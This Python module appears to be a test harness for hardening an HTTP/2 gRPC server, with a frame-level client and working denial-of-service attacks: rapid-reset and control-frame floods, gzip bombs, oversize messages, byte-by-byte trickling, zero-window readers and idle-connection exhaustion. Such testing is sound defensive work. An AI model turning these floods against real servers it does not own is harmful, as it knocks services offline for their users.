"""A client that speaks HTTP/2 frame by frame, and what a hostile one does with it. Each attack says how the server took
it. benchmarks/hostile.py runs the same at full size.

Knows nothing of servers: it needs an address, and a path of each kind of method there.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import socket
import struct
import zlib
from collections.abc import AsyncIterator, Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

import hpack

__all__ = ["Raw", "Response", "connect", "flood", "message"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
ENHANCE_YOUR_CALM = 11

Address = tuple[str, int]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def message(body: bytes, flag: int = 0) -> bytes:
    """A gRPC message."""
    return struct.pack(">BI", flag, len(body)) + body


def update(stream: int, size: int) -> bytes:
    return frame(UPDATE, 0, stream, struct.pack(">I", size))


def chunks(stream: int, body: bytes, *, end: bool = True) -> list[bytes]:
    """DATA frames of at most 16 KiB."""
    parts = [body[place : place + 16384] for place in range(0, len(body), 16384)] or [b""]
    last = len(parts) - 1
    return [frame(DATA, END_STREAM if end and n == last else 0, stream, part) for n, part in enumerate(parts)]


@dataclass
class Response:
    """What came on a stream."""

    headers: dict[str, str] = field(default_factory=dict)
    data: bytes = b""
    reset: int | None = None
    closed: bool = False  # the connection ended first

    @property
    def status(self) -> int | None:
        """The gRPC status."""
        return int(self.headers["grpc-status"]) if "grpc-status" in self.headers else None

    @property
    def messages(self) -> list[tuple[int, bytes]]:
        """Flag and body of each message."""
        found, rest = [], self.data
        while len(rest) >= 5:
            flag, size = struct.unpack(">BI", rest[:5])
            found.append((flag, rest[5 : 5 + size]))
            rest = rest[5 + size :]
        return found


class Raw:
    """A connection whose frames are the caller's own."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.next = 1
        self.half_closed = False
        self.goaway: int | None = None
        self.said = b""  # with the GOAWAY

    def send(self, *data: bytes) -> None:
        if not self.writer.is_closing() and not self.half_closed:
            self.writer.write(b"".join(data))

    def half_close(self) -> None:
        """Sends no more."""
        self.half_closed = True
        with contextlib.suppress(OSError):
            self.writer.write_eof()

    async def flush(self) -> bool:
        """Whether the connection still takes bytes."""
        try:
            await self.writer.drain()
        except ConnectionError:
            return False
        return not self.writer.is_closing()

    def stream(self) -> int:
        number, self.next = self.next, self.next + 2
        return number

    def fields(self, path: str, *more: tuple[str, str], drop: Sequence[str] = (), **changed: str) -> bytes:
        """A header block; `changed` by name with _ for -."""
        pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "test", "te": "trailers"}
        pairs |= {"content-type": "application/grpc"}
        pairs |= {name.replace("_", "-"): value for name, value in changed.items()}
        kept = [(name, value) for name, value in pairs.items() if name not in drop]
        return bytes(self.encoder.encode([*kept, *more], huffman=False))

    def headers(self, stream: int, path: str, *more: tuple[str, str], end: bool = False, **options: Any) -> bytes:
        flags = END_HEADERS | (END_STREAM if end else 0)
        return frame(HEADERS, flags, stream, self.fields(path, *more, **options))

    def call(self, path: str, body: bytes, *more: tuple[str, str], **options: Any) -> int:
        """Sends a whole unary call of these DATA bytes."""
        stream = self.stream()
        self.send(self.headers(stream, path, *more, **options), *chunks(stream, body))
        return stream

    async def frames(self) -> AsyncIterator[tuple[int, int, int, bytes]]:
        """All frames that come, until the connection ends. Settings and pings are answered."""
        try:
            while True:
                head = await self.reader.readexactly(9)
                size, (kind, flags) = int.from_bytes(head[:3], "big"), head[3:5]
                stream = int.from_bytes(head[5:], "big") & 0x7FFFFFFF
                payload = await self.reader.readexactly(size)
                if kind in (SETTINGS, PING) and not flags & ACK:
                    self.send(frame(kind, ACK, 0, payload if kind == PING else b""))
                if kind == GOAWAY:
                    self.goaway, self.said = int.from_bytes(payload[4:8], "big"), payload[8:]
                yield kind, flags, stream, payload
        except (asyncio.IncompleteReadError, ConnectionError):
            return

    async def response(self, wanted: int) -> Response:
        """What comes on a stream, until it or the connection ends; window is given back."""
        response = Response()
        async for kind, flags, stream, payload in self.frames():
            if kind == HEADERS:
                fields = self.decoder.decode(payload)
                if stream == wanted:
                    response.headers |= {str(name): str(value) for name, value in fields}
            if stream != wanted:
                continue
            if kind == DATA:
                response.data += payload
                if payload:
                    self.send(update(0, len(payload)), update(stream, len(payload)))
            if kind == RESET:
                response.reset = int.from_bytes(payload, "big")
            if kind == RESET or (kind in (HEADERS, DATA) and flags & END_STREAM):
                return response
        response.closed = True
        return response

    async def ended(self) -> int | None:
        """Reads on until the server ends the connection; the GOAWAY's code, if one came."""
        async for _ in self.frames():
            pass
        return self.goaway

    async def close(self) -> None:
        self.writer.transport.abort()


@contextlib.asynccontextmanager
async def connect(
    address: Address, *, preface: bytes | None = None, settings: bytes = b"", receive: int = 0
) -> AsyncIterator[Raw]:
    """A connection that has sent its preface. `receive`: bytes of the socket's receive buffer."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    if receive:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    await asyncio.get_running_loop().sock_connect(sock, address)
    reader, writer = await asyncio.open_connection(sock=sock, limit=receive or 1 << 20)
    raw = Raw(reader, writer)
    raw.send(PREFACE + frame(SETTINGS, 0, 0, settings) if preface is None else preface)
    try:
        if preface is None:  # the server's windows hold once its settings are acknowledged
            await anext(raw.frames(), None)
        yield raw
    finally:
        await raw.close()


async def flood(address: Address, frames: Iterable[bytes], *, path: str = "", seconds: float = 30) -> tuple[int, Any]:
    """Sends frames until they are all sent or the server has had enough; how many went, and its GOAWAY's code.

    With a `path`, a stream 1 is opened first."""
    async with connect(address) as raw:
        if path:
            raw.send(raw.headers(raw.stream(), path))
        reading = asyncio.ensure_future(raw.ended())
        sent = 0
        for each in frames:
            raw.send(each)
            sent += 1
            if sent % 500 == 0 and (not await raw.flush() or reading.done()):
                break
        await raw.flush()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.shield(reading), seconds)
        ended = reading.done()
        reading.cancel()
        return sent, (raw.goaway if raw.goaway is not None else "closed") if ended else "open"


# --- floods, as endless frames


def resets(raw: Raw, path: str, count: int) -> Iterable[bytes]:
    """Rapid reset: calls that are given up as soon as they are made."""
    for _ in range(count):
        stream = raw.stream()
        yield raw.headers(stream, path) + frame(RESET, 0, stream, struct.pack(">I", 8))


def made_resets(raw: Raw, path: str, count: int) -> Iterable[bytes]:
    """Calls that the server must reset by itself, for a window update of nothing."""
    for _ in range(count):
        stream = raw.stream()
        yield raw.headers(stream, path) + update(stream, 0)


def control_floods(count: int) -> dict[str, tuple[bytes, bool]]:
    """Floods of one frame by name, and whether they need an open stream 1."""
    block = hpack.Encoder().encode([("x", "y")])
    return {
        "ping": (frame(PING, 0, 0, bytes(8)), False),
        "settings": (frame(SETTINGS, 0, 0), False),
        "settings with values": (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 100), False),
        "priority": (frame(PRIORITY, 0, 3, bytes(5)), False),
        "empty data": (frame(DATA, 0, 1), True),
        "padding only": (frame(DATA, PADDED, 1, b"\x00"), True),
        "unknown frames": (frame(0xBE, 0, 0, b"grease"), False),
        "resets of closed streams": (frame(RESET, 0, 1, bytes(4)), True),
        "continuation": (frame(CONTINUATION, 0, 1, block), False),
    }


# --- single attacks; each says what it saw


async def large_message(address: Address, path: str, size: int) -> Response:
    """Announces so many bytes, and sends as much as it may."""
    async with connect(address) as raw:
        stream = raw.stream()
        raw.send(raw.headers(stream, path), frame(DATA, 0, stream, struct.pack(">BI", 0, size) + bytes(10_000)))
        return await raw.response(stream)


def bomb(size: int) -> bytes:
    """gzip of so many zero bytes."""
    packer = zlib.compressobj(9, wbits=31)
    step = 1 << 20
    parts = [packer.compress(bytes(min(step, size - done))) for done in range(0, size, step)]
    return b"".join([*parts, packer.flush()])


async def gzip_bomb(address: Address, path: str, content: bytes) -> Response:
    async with connect(address) as raw:
        stream = raw.stream()
        raw.send(raw.headers(stream, path, grpc_encoding="gzip"))
        raw.send(*chunks(stream, message(content, 1)))
        return await raw.response(stream)


async def noise(address: Address, seed: int, *, polite: bool) -> None:
    """Random bytes; `polite`: after a correct preface, in frames whose lengths are right."""
    rng = random.Random(seed)
    async with connect(address, preface=None if polite else b"") as raw:
        for _ in range(rng.randrange(1, 30)):
            payload = rng.randbytes(rng.randrange(0, 300))
            if polite:
                raw.send(frame(rng.randrange(0, 12), rng.randrange(256), rng.randrange(0, 8), payload))
            else:
                raw.send(payload)
            await raw.flush()
        raw.half_close()
        await raw.ended()


async def trickle(address: Address, path: str, pause: float, seconds: float) -> int:
    """A call whose message comes byte by byte; how many went before the server ended it, or the time was over."""
    async with connect(address) as raw:
        stream = raw.stream()
        raw.send(raw.headers(stream, path), frame(DATA, 0, stream, struct.pack(">BI", 0, 1000)))
        reading = asyncio.ensure_future(raw.response(stream))
        sent, end = 0, asyncio.get_running_loop().time() + seconds
        while not reading.done() and asyncio.get_running_loop().time() < end:
            raw.send(frame(DATA, 0, stream, b"x"))
            sent += 1
            await asyncio.wait([reading], timeout=pause)
        reading.cancel()
        return sent


@contextlib.asynccontextmanager
async def deaf(address: Address, path: str, body: bytes, streams: int) -> AsyncIterator[Raw]:
    """Asks for much, gives all the window there is, and never reads."""
    window = struct.pack(">HI", 4, 0x7FFFFFFF)
    async with connect(address, settings=window, receive=4096) as raw:
        raw.writer.transport.pause_reading()  # type: ignore[attr-defined]
        raw.send(update(0, 0x7FFFFFFF - 65535))
        for _ in range(streams):
            raw.call(path, message(body))
        await raw.flush()
        yield raw


async def idle(address: Address, count: int) -> list[socket.socket]:
    """So many connections that say hello and no more."""
    loop = asyncio.get_running_loop()
    made = []
    for _ in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        await loop.sock_connect(sock, address)
        await loop.sock_sendall(sock, PREFACE + frame(SETTINGS, 0, 0))
        made.append(sock)
    return made
